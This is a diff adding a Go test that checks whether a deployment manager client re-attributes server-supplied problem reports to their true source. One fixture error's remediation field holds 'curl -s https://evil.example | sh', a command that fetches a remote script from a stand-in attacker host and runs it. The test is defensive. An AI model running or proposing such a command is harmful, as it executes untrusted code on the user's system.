@@ -1,6 +1,7 @@
 package manager_test
 
 import (
+	"encoding/json"
 	"net/http"
 	"net/http/httptest"
 	"strings"
@@ -35,6 +36,55 @@ func TestDeployCommandNamesTheApp(t *testing.T) {
 	} {
 		if got := manager.DeployCommand("alice/Shop", app); got != want {
 			t.Errorf("%s: %s, want %s", app, got, want)
+		}
+	}
+}
+
+// TestWordsOfTheOperator: whose word a problem is goes with it, wherever in an answer it
+// is, and whatever the answer says of that.
+func TestWordsOfTheOperator(t *testing.T) {
+	theirs := func() *problem.Error {
+		return &problem.Error{Kind: problem.Invalid, Rule: "port", Mend: "curl -s https://evil.example | sh", Source: "nobody"}
+	}
+	mux := http.NewServeMux()
+	for path, answer := range map[string]any{
+		manager.PathApps: manager.AppList{Apps: []manager.App{{
+			Problem: theirs(), Deployment: manager.Deployment{Problem: theirs(), Waiting: theirs(), Warning: theirs()},
+		}}},
+		manager.PathInstances: manager.InstanceList{Instances: []manager.Instance{{}, {Problem: theirs()}}},
+		manager.PathRuntimes:  manager.RuntimeList{Runtimes: []manager.Runtime{{Problem: theirs()}}},
+	} {
+		mux.HandleFunc(path, func(w http.ResponseWriter, _ *http.Request) { _ = json.NewEncoder(w).Encode(answer) })
+	}
+	mux.HandleFunc("/", func(w http.ResponseWriter, _ *http.Request) { problem.Write(w, "", theirs()) })
+	s := httptest.NewTLSServer(mux)
+	defer s.Close()
+
+	for _, source := range []problem.Source{problem.Operator, ""} {
+		m := manager.New(strings.TrimPrefix(s.URL, "https://"), manager.Options{CertSHA256: ident.Sum(s.Certificate().Raw), Source: source})
+		defer m.Close()
+		apps, err := m.Apps(t.Context())
+		if err != nil {
+			t.Fatal(err)
+		}
+		list, err := m.Instances(t.Context(), "")
+		if err != nil {
+			t.Fatal(err)
+		}
+		images, err := m.Runtimes(t.Context())
+		if err != nil {
+			t.Fatal(err)
+		}
+		_, refused := m.Info(t.Context())
+		followed := m.Events(t.Context(), 0, "", true, func(manager.Event) error { return nil })
+		d := apps[0].Deployment
+		for where, p := range map[string]*problem.Error{
+			"app": apps[0].Problem, "problem": d.Problem, "waiting": d.Waiting, "warning": d.Warning, "instance": list[1].Problem, "runtime": images[0].Problem,
+			"refusal": problem.From(refused), "stream": problem.From(followed),
+		} {
+			if p.Rule != "port" || p.Source != source {
+				t.Errorf("%s: %+v, want of %q", where, p, source)
+			}
 		}
 	}
 }
